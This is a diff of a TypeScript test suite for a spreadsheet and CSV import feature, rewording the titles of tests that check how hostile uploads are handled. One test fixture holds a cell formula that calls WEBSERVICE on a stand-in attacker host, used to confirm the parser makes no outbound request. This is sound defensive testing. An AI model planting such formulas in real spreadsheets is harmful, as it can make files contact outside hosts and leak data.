@@ -28,7 +28,7 @@ const problemsOf = async (content: string | Buffer) => {
 }
 
 describe('a hostile file', () => {
-  it('with external links, scripts and entities is read as the texts in its cells, and asks no one', async () => {
+  it('with external links, scripts and entities is parsed as plain cell texts, without any request', async () => {
     const formula = `<f>[1]Sheet1!A1&amp;WEBSERVICE("http://attacker.example.com")</f><v>Asha Patel</v>`
     const row = `<row r="2">${cell('A2', formula)}${cell('B2', '<v>asha.links@example.com</v>')}</row>`
     const links = {
@@ -39,14 +39,14 @@ describe('a hostile file', () => {
     expect(read.preview[1]).toEqual(['Asha Patel', 'asha.links@example.com'])
   })
 
-  it('is told by its content, whatever its ending', async () => {
+  it('is recognised by its content, regardless of its extension', async () => {
     const staff = await newStaff(portal)
     const sheet = workbook(`${headings}<row r="2">${cell('A2', '<v>Asha Patel</v>')}${cell('B2', '<v>a@example.com</v>')}</row>`)
     expect((await upload(portal, staff, sheet, 'people.csv')).format).toBe('xlsx')
     expect((await upload(portal, staff, 'Name,Email\nAsha Patel,a@example.com\n', 'people.xlsx')).format).toBe('csv')
   })
 
-  it('with half a surrogate pair, and with NULs, says which rows to repair and offers it', async () => {
+  it('with lone surrogates and NULs reports the rows and offers a repair', async () => {
     const text = `\ufeffName,Email\nAsha \ud83d Patel,half@example.com\nRavi\u0000 Shah,nul@example.com\n`
     const { problems, counts } = await problemsOf(Buffer.from(text, 'utf16le'))
     expect(counts).toMatchObject({ rows: 2, errors: 2 })
@@ -56,7 +56,7 @@ describe('a hostile file', () => {
     expect(problems[0]?.fixes).toContain('clean')
   })
 
-  it('with names of 300 characters says how many there may be, and offers to shorten', async () => {
+  it('with names of 300 characters states the maximum and offers to shorten them', async () => {
     const { problems } = await problemsOf(`First name,Last name,Email\n${'अ'.repeat(300)},Patel,long@example.com\n`)
     expect(problems).toEqual([
       expect.objectContaining({ field: 'first_name', code: 'too_long', message: `Use at most ${limits.name} characters.` }),
@@ -64,7 +64,7 @@ describe('a hostile file', () => {
     expect(problems[0]?.fixes).toContain('shorten')
   })
 
-  it('with numbers that Excel has cut names the fix; a zero it has lost, and mixed scripts, are read', async () => {
+  it('with numbers shortened by Excel names the remedy; lost leading zeros and mixed scripts are parsed', async () => {
     const rows = [
       'Name,Email,Mobile,PIN code,City',
       'Cut Short,cut@example.com,9.88E+09,380009,Ahmedabad',
@@ -90,7 +90,7 @@ describe('a hostile file', () => {
     expect(found.toSorted()).toEqual(['9825012345 380009', '9825012346 380009'])
   })
 
-  it('is refused within two seconds of work, and nothing of it is left', async () => {
+  it('is refused within two seconds of CPU time, and leaves nothing behind', async () => {
     const staff = await newStaff(portal)
     const before = await portal.ctx.database.db.$count(tables.imports)
     const hostile = [
